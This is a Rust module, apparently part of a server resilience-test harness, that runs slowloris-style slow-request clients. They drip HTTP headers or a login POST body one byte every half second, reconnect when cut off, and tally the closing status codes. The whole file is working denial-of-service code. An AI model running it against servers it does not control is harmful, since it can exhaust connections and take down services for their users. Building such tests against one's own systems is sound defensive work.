//! Clients that send a request byte by byte, and come again when they are cut.

use super::attackers::Tally;
use super::kept::status;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddrV4, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::thread;
use std::time::Duration;

/// Each of them sends a byte as often as this.
const EVERY: Duration = Duration::from_millis(500);

/// What has no end.
#[derive(Clone, Copy)]
pub enum Drip {
    Head,
    Body,
}

/// So many of them, on one thread.
pub fn go_on(server: SocketAddrV4, count: usize, drip: Drip, ended: &AtomicBool) -> Tally {
    let begins = match drip {
        Drip::Head => format!("GET /readyz HTTP/1.1\r\nHost: {server}\r\nX-Slow: "),
        Drip::Body => format!(
            "POST /api/v1/login HTTP/1.1\r\nHost: {server}\r\nContent-Type: application/json\r\n\
             Content-Length: 100000\r\n\r\n{{\"name\":\""
        ),
    };
    let mut tally = Tally::new();
    let mut clients: Vec<Option<TcpStream>> = (0..count).map(|_| None).collect();
    while !ended.load(Relaxed) {
        for client in &mut clients {
            match client.take() {
                Some(stream) => match end_of(&stream) {
                    Some(status) => *tally.entry(status).or_default() += 1,
                    None => *client = Some(stream),
                },
                None => *client = connect(server, &begins).ok(),
            }
        }
        thread::sleep(EVERY);
    }
    tally
}

fn connect(server: SocketAddrV4, begins: &str) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect(server)?;
    stream.write_all(begins.as_bytes())?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// Sends one more byte; the status with which the server has ended it, 0 if it said none.
fn end_of(mut stream: &TcpStream) -> Option<u16> {
    let mut answer = [0; 64];
    match stream.read(&mut answer) {
        Ok(count) => Some(status(&answer[..count]).unwrap_or(0)),
        Err(error) if error.kind() == ErrorKind::WouldBlock => stream.write_all(b"a").err().map(|_| 0),
        Err(_) => Some(0),
    }
}
